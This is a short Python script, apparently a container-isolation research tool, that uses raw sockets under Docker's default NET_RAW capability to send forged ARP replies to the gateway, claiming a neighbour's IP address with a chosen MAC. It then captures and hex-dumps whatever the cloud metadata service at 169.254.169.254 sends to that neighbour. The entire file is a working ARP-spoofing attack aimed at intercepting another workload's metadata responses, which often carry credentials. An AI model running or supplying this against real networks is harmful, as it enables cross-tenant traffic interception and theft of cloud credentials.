"""Claims a neighbour's address for some seconds and writes down every answer of the metadata service that comes by.

eavesdrop.py MODE VICTIM-IP VICTIM-MAC GATEWAY-IP SECONDS, with no more than Docker's default capabilities (NET_RAW).
MODE is the hardware address it claims it with: "own", an "invented" one, or the "victim"'s.
Prints the number of diverted frames and, in hex, all their data.
"""
import socket
import struct
import sys
import time

mode, victim, victim_mac, gateway, seconds = sys.argv[1:6]
METADATA = socket.inet_aton("169.254.169.254")
hardware = lambda text: bytes.fromhex(text.replace(":", ""))
own = hardware(open("/sys/class/net/eth0/address").read().strip())
source = {"own": own, "invented": hardware("02:de:ad:be:ef:01"), "victim": hardware(victim_mac)}[mode]
wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
wire.bind(("eth0", 0))
wire.settimeout(0.005)


def gateway_mac():
    for _ in range(20):
        for fields in map(str.split, open("/proc/net/arp")):
            if fields[0] == gateway and fields[3] != "00:00:00:00:00:00":
                return hardware(fields[3])
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"?", (gateway, 9))
        time.sleep(0.1)
    sys.exit("the gateway has no hardware address")


door = gateway_mac()
claim = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + source + socket.inet_aton(victim) + door + socket.inet_aton(gateway)
frames, heard, end = 0, b"", time.time() + float(seconds)
while time.time() < end:
    wire.send(door + source + b"\x08\x06" + claim)
    try:
        frame = wire.recv(65535)
    except TimeoutError:
        continue
    if frame[12:14] != b"\x08\x00" or frame[23] != 6 or frame[26:30] != METADATA:
        continue
    frames += 1
    start = 14 + (frame[14] & 15) * 4
    heard += frame[start + (frame[start + 12] >> 4) * 4:14 + struct.unpack("!H", frame[16:18])[0]]
print(frames, heard.hex())
